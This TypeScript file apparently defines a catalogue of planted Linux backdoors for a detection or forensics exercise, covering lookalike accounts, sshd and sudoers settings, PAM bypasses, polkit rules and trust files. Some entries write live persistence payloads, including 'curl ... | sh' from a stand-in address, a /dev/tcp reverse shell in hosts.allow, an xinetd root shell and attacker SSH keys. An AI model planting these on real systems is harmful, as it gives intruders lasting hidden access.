/** Accounts and ways in of the third wave. */

import { attackerKey, file, line, type Sign } from '../sign.ts';
import type { Tree } from '../tree.ts';

const hash = '$6$abcdefgh$0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ./0123456789abcdefghijkl';
function account(tree: Tree, passwd: string, password = hash): void {
	tree.append('/etc/passwd', `${passwd}\n`);
	tree.append('/etc/shadow', `${passwd.slice(0, passwd.indexOf(':'))}:${password}:20300:0:99999:7:::\n`);
}
const sshd = (id: string, what: string, text: string): Sign => file(`sshd-${id}`, 'trust', what, `/etc/ssh/sshd_config.d/70-${id}.conf`, `${text}\n`);
const sudo = (id: string, what: string, text: string): Sign => file(`sudo-${id}`, 'trust', what, `/etc/sudoers.d/z-${id}`, `${text}\n`, { mode: 0o440 });

export const rarerTrust: readonly Sign[] = [
	{ id: 'looks-like-mail', family: 'accounts', what: 'rn that looks like m', plant: tree => account(tree, 'rnail:x:988:988::/var/rnail:/bin/sh'), names: ['account rnail'] },
	{ id: 'looks-like-www', family: 'accounts', what: 'a name one letter off a daemon\'s', plant: tree => account(tree, 'www-date:x:987:987::/var/www:/bin/bash'), names: ['account www-date'] },
	{ id: 'looks-like-systemd', family: 'accounts', what: 'a name of systemd that is none', plant: tree => account(tree, 'systernd-network:x:986:986::/:/bin/bash'), names: ['account systernd-network'] },
	{ id: 'blank-name', family: 'accounts', what: 'a name of a blank', plant: tree => account(tree, 'root :x:1060:1060::/home/r:/bin/bash'), names: ['account root\\u{20}', 'account root '] },
	{ id: 'dot-name', family: 'accounts', what: 'a hidden name', plant: tree => account(tree, '.sys:x:985:985::/var/lib/sys:/bin/bash'), names: ['account .sys'] },
	{ id: 'home-root', family: 'accounts', what: 'a person at home in root\'s home', plant: tree => account(tree, 'helper:x:1061:1061::/root:/bin/bash'), names: ['account helper'] },
	{ id: 'home-slash', family: 'accounts', what: 'a person at home everywhere', plant: tree => account(tree, 'svcmon:x:1062:1062::/:/bin/bash'), names: ['account svcmon'] },
	{ id: 'home-tmp', family: 'accounts', what: 'a person at home in /tmp', plant: tree => account(tree, 'tmpusr:x:1063:1063::/tmp:/bin/bash'), names: ['account tmpusr'] },
	{ id: 'home-hidden', family: 'accounts', what: 'a person in a hidden home', plant: tree => account(tree, 'ftpadm:x:1064:1064::/home/.ftpadm:/bin/bash'), names: ['account ftpadm'] },
	{ id: 'des-hash', family: 'accounts', what: 'a password of the oldest kind', plant: tree => account(tree, 'olduser:x:1065:1065::/home/olduser:/bin/bash', 'ab01FAX.bQRSU'), names: ['account olduser'] },
	{ id: 'md5-hash', family: 'accounts', what: 'a password of an old kind, made of late', plant: tree => account(tree, 'md5user:x:984:984::/home/md5user:/bin/bash', '$1$evil$rTuWjzvkhYYwK1wzN2n6L0'), names: ['account md5user'] },
	{ id: 'group-zero-twin', family: 'accounts', what: 'a second group 0', plant: tree => tree.append('/etc/group', 'wheel0:x:0:ada\n'), names: ['/etc/group'] },
	{ id: 'gshadow-password', family: 'accounts', what: 'a password for the group sudo', plant: tree => tree.edit('/etc/gshadow', /^sudo:[^:]*:/m, `sudo:${hash}:`), names: ['/etc/gshadow'] },
	{ id: 'gshadow-admin', family: 'accounts', what: 'a daemon may change the group sudo', plant: tree => tree.edit('/etc/gshadow', /^disk:([^:]*):[^:]*:.*$/m, 'disk:$1:games:games'), names: ['/etc/gshadow', 'account games'] },
	line('subuid', 'accounts', 'a user that may become root by newuidmap', '/etc/subuid', 'www-data:0:65536\n'),
	file('capability-conf', 'accounts', 'capabilities at login', '/etc/security/capability.conf', 'cap_setuid,cap_dac_override,cap_sys_admin ada\n'),
	line('pam-group', 'accounts', 'everybody in a group of power', '/etc/security/group.conf', '*;*;*;Al0000-2400;sudo,shadow,docker\n'),
	{ id: 'root-unlocked', family: 'accounts', what: 'backup may log in', plant: tree => {
		tree.edit('/etc/passwd', /^(backup:.*):[^:]+$/m, '$1:/bin/sh');
		tree.edit('/etc/shadow', /^backup:[^:]*:/m, `backup:${hash}:`);
	}, names: ['account backup'] },
	{ id: 'sync-shell', family: 'accounts', what: 'sync that is a shell', plant: tree => tree.edit('/etc/passwd', /^(sync:.*):[^:]+$/m, '$1:/bin/bash'), names: ['account sync'] },
	{ id: 'shell-script', family: 'accounts', what: 'a shell that is a script of the intruder', plant: tree => {
		tree.write('/usr/local/bin/rbash2', '#!/bin/sh\n(curl -s 203.0.113.9/k|sh) &\nexec /bin/bash "$@"\n', { mode: 0o755 });
		tree.edit('/etc/passwd', /^(deploy:.*):[^:]+$/m, '$1:/usr/local/bin/rbash2');
	}, names: ['account deploy', '/usr/local/bin/rbash2'], also: ['/usr/local/bin/rbash2'] },

	sshd('empty', 'no password is a password', 'PermitEmptyPasswords yes'),
	sshd('match', 'root by password from one address', 'Match Address 203.0.113.9\n\tPermitRootLogin yes\n\tPasswordAuthentication yes'),
	sshd('principals', 'principals from a temporary place', 'AuthorizedPrincipalsFile /var/tmp/.p/%u'),
	sshd('principals-command', 'a program that names principals', 'AuthorizedPrincipalsCommand /dev/shm/.p\nAuthorizedPrincipalsCommandUser root'),
	sshd('environment', 'variables of whoever comes', 'PermitUserEnvironment yes\nAcceptEnv LD_PRELOAD'),
	sshd('hostbased', 'hosts are trusted', 'HostbasedAuthentication yes\nIgnoreRhosts no'),
	// StrictModes no is not among these: servers with homes on NFS have it, and what it lets through (a key file others may write) is told by itself.
	sshd('hostkey', 'a host key of a hidden place', 'HostKey /var/lib/.hk/key'),
	sshd('force', 'a command for all', 'ForceCommand /usr/lib/.f/shell'),
	sshd('quiet', 'nothing is logged', 'LogLevel QUIET'),
	sshd('banner', 'a secret as a greeting', 'Banner /etc/shadow'),
	sshd('match-command', 'a command for one user', 'Match User ada\n\tForceCommand /bin/sh -c "curl -s 203.0.113.9/k|sh; $SHELL"'),
	sshd('include', 'settings from elsewhere', 'Include /var/tmp/.sshd/*.conf'),
	{ id: 'key-system', family: 'trust', what: 'a key for a daemon', plant: tree => tree.write('/var/spool/lpd/.ssh/authorized_keys', `${attackerKey}\n`, { owner: 'lp', mode: 0o600 }), names: ['/var/spool/lpd/.ssh/authorized_keys', 'account lp'] },
	{ id: 'key-news', family: 'trust', what: 'a key for a daemon that has a home', plant: tree => tree.write('/var/backups/.ssh/authorized_keys', `${attackerKey}\n`, { owner: 'backup', mode: 0o600 }), names: ['/var/backups/.ssh/authorized_keys'], also: ['/var/backups/.ssh'] },
	{ id: 'key-environment', family: 'trust', what: 'a key that sets a variable', plant: tree => tree.append('/home/ada/.ssh/authorized_keys', `environment="LD_PRELOAD=/tmp/.x.so" ${attackerKey}\n`), names: ['/home/ada/.ssh/authorized_keys'] },
	{ id: 'key-many', family: 'trust', what: 'one key on many accounts', plant: tree => {
		tree.append('/root/.ssh/authorized_keys', `${attackerKey}\n`);
		tree.append('/home/git/.ssh/authorized_keys', `${attackerKey}\n`);
		tree.append('/home/deploy/.ssh/authorized_keys', `${attackerKey}\n`);
	}, names: ['/root/.ssh/authorized_keys', '/home/git/.ssh/authorized_keys', '/home/deploy/.ssh/authorized_keys'], also: ['/home/git/.ssh', '/home/deploy/.ssh', '/root/.ssh'] },
	{ id: 'ssh-dir-open', family: 'trust', what: 'anyone may add keys', plant: tree => tree.mode('/home/grace/.ssh', 0o777), names: ['/home/grace/.ssh', '/home/grace/.ssh/authorized_keys'] },

	sudo('authenticate', 'nobody is asked', 'Defaults !authenticate'),
	sudo('authenticate-user', 'one is not asked', 'Defaults:nobody !authenticate'),
	sudo('log', 'nothing is logged', 'Defaults !syslog, !logfile'),
	sudo('numeric', 'an uid by number', '#1099 ALL=(ALL:ALL) NOPASSWD: ALL'),
	sudo('group-number', 'a group by number', '%#33 ALL=(ALL) NOPASSWD: ALL'),
	sudo('alias', 'a daemon behind an alias', 'User_Alias OPS = www-data, irc\nOPS ALL=(ALL) NOPASSWD: ALL'),
	sudo('wildcard', 'a star that lets everything in', 'nobody ALL=(root) NOPASSWD: /usr/bin/tar *'),
	sudo('everybody', 'everybody a shell', 'ALL ALL=(root) NOPASSWD: /bin/bash'),
	sudo('own-program', 'a program in somebody\'s home', 'jürgen ALL=(root) NOPASSWD: /home/jürgen/fix'),
	sudo('tmp-program', 'a program in /tmp', 'grace ALL=(root) NOPASSWD: /tmp/update'),
	sudo('include', 'rules from elsewhere', '@include /var/tmp/.sudoers'),
	sudo('editor', 'an editor of the intruder', 'Defaults editor=/var/tmp/.ed'),
	sudo('timestamp', 'asked once and never again', 'Defaults timestamp_timeout=-1'),
	{ id: 'sudo-group-program', family: 'trust', what: 'a group\'s script anyone may write', plant: tree => {
		tree.write('/etc/sudoers.d/z-group-program', '%users ALL=(root) NOPASSWD: /usr/local/bin/menu\n', { mode: 0o440 });
		tree.write('/usr/local/bin/menu', '#!/bin/sh\nexec less /var/log/syslog\n', { mode: 0o777 });
	}, names: ['/etc/sudoers.d/z-group-program'], also: ['/usr/local/bin/menu'] },

	{ id: 'pam-permit-account', family: 'trust', what: 'anybody passes', plant: tree => tree.edit('/etc/pam.d/sshd', /^/, 'auth sufficient pam_permit.so\n'), names: ['/etc/pam.d/sshd'] },
	{ id: 'pam-succeed-user', family: 'trust', what: 'one user passes', plant: tree => tree.edit('/etc/pam.d/login', /^/, 'auth sufficient pam_succeed_if.so quiet user = ada\n'), names: ['/etc/pam.d/login'] },
	{ id: 'pam-succeed-uid', family: 'trust', what: 'all uids pass', plant: tree => tree.edit('/etc/pam.d/su', /^/, 'auth [success=done default=ignore] pam_succeed_if.so uid >= 0\n'), names: ['/etc/pam.d/su'] },
	{ id: 'pam-account-first', family: 'trust', what: 'locked accounts pass', plant: tree => tree.edit('/etc/pam.d/common-account', /^/, 'account sufficient pam_permit.so\n'), names: ['/etc/pam.d/common-account'] },
	{ id: 'pam-deny-gone', family: 'trust', what: 'no is taken for yes', plant: tree => tree.edit('/etc/pam.d/common-auth', /pam_deny\.so/, 'pam_permit.so'), names: ['/etc/pam.d/common-auth'] },
	{ id: 'pam-wheel', family: 'trust', what: 'a group may su unasked', plant: tree => tree.edit('/etc/pam.d/su-l', /^/, 'auth sufficient pam_wheel.so trust group=users\n'), names: ['/etc/pam.d/su-l'] },
	{ id: 'pam-python', family: 'trust', what: 'a script among the modules', plant: tree => tree.edit('/etc/pam.d/sudo', /^/, 'auth sufficient pam_python.so /lib/security/x.py\n'), names: ['/etc/pam.d/sudo'] },
	{ id: 'pam-listfile', family: 'trust', what: 'a list of names that pass', plant: tree => tree.edit('/etc/pam.d/cron', /^/, 'auth sufficient pam_listfile.so item=user sense=allow file=/tmp/.l onerr=succeed\n'), names: ['/etc/pam.d/cron'] },
	{ id: 'pam-unix', family: 'packages', what: 'pam_unix with a master password', plant: tree => tree.append('/usr/lib/x86_64-linux-gnu/security/pam_unix.so', 'evil'), names: ['/usr/lib/x86_64-linux-gnu/security/pam_unix.so', '/lib/x86_64-linux-gnu/security/pam_unix.so'] },
	file('pam-other', 'trust', 'services without a file of their own let anybody in', '/etc/pam.d/other', 'auth required pam_permit.so\naccount required pam_permit.so\n'),
	file('polkit-admin', 'trust', 'everybody is an administrator', '/etc/polkit-1/rules.d/40-a.rules', 'polkit.addAdminRule(function(a, s) { return ["unix-user:nobody"]; });\n'),
	file('polkit-spawn', 'trust', 'a rule that runs a program', '/etc/polkit-1/rules.d/41-b.rules', 'polkit.addRule(function(a, s) { polkit.spawn(["/var/tmp/.pk"]); });\n'),
	file('polkit-user', 'trust', 'one user may do all', '/usr/share/polkit-1/rules.d/42-c.rules', 'polkit.addRule(function(a, s) { if (s.user == "www-data") return polkit.Result.YES; });\n'),
	file('polkit-action', 'trust', 'an action of no package that needs no question', '/usr/share/polkit-1/actions/org.x.policy', '<policyconfig><action id="org.x.run"><defaults><allow_any>yes</allow_any><allow_active>yes</allow_active></defaults><annotate key="org.freedesktop.policykit.exec.path">/bin/bash</annotate></action></policyconfig>\n'),
	file('dbus-policy', 'trust', 'anybody may own every name', '/etc/dbus-1/system.d/zz.conf', '<busconfig><policy context="default"><allow own="*"/><allow send_destination="*" send_interface="*"/></policy></busconfig>\n'),
	file('netrc-root', 'trust', 'root\'s logins readable by all', '/root/.netrc', 'machine x login y password z\n', { mode: 0o644 }),
	file('rhosts-www', 'trust', 'the web server trusts any host', '/var/www/.rhosts', '+ +\n', { owner: 'www-data' }),
	file('shosts-equiv', 'trust', 'a bare address is trusted', '/etc/ssh/shosts.equiv', '203.0.113.9\n'),
	line('exports-root', 'trust', 'root of another host is root here', '/etc/exports', '/etc 203.0.113.9(rw,no_root_squash)\n'),
	file('hosts-lpd', 'trust', 'any host may print', '/etc/hosts.lpd', '+\n'),
	file('hosts-allow', 'services', 'a connection starts a program', '/etc/hosts.allow', 'sshd: 203.0.113.9 : spawn (/bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1)\n'),
	file('inetd-hidden', 'services', 'inetd serves a hidden program', '/etc/inetd.conf', '31337 stream tcp nowait root /usr/sbin/tcpd /usr/lib/.in/in.fingerd\n'),
	file('xinetd-shell', 'services', 'xinetd serves a shell', '/etc/xinetd.d/chargen2', 'service chargen2\n{\n\ttype = UNLISTED\n\tport = 1999\n\tsocket_type = stream\n\twait = no\n\tuser = root\n\tserver = /bin/bash\n\tserver_args = -i\n}\n'),
];
